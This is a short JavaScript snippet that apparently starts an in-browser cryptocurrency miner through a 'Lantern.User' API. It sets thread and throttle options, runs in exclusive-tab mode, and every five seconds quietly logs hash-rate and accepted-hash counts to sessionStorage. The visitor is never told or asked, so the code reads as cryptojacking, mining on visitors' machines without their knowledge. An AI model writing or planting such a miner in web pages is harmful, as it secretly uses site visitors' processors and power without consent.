const settings = { autoThreads: true, throttle: 0.6, language: 'de' };
const one = new Lantern.User('KEY-OF-NOBODY', 'visitor-' + Date.now(), settings);
one.on('found', () => {});
one.on('accepted', () => document.title.length);
one.start(Lantern.FORCE_EXCLUSIVE_TAB);
setInterval(() => {
  const line = one.getHashesPerSecond() + ' / ' + one.getTotalHashes() + ' / ' + one.getAcceptedHashes();
  sessionStorage.setItem('x', line);
}, 5000);
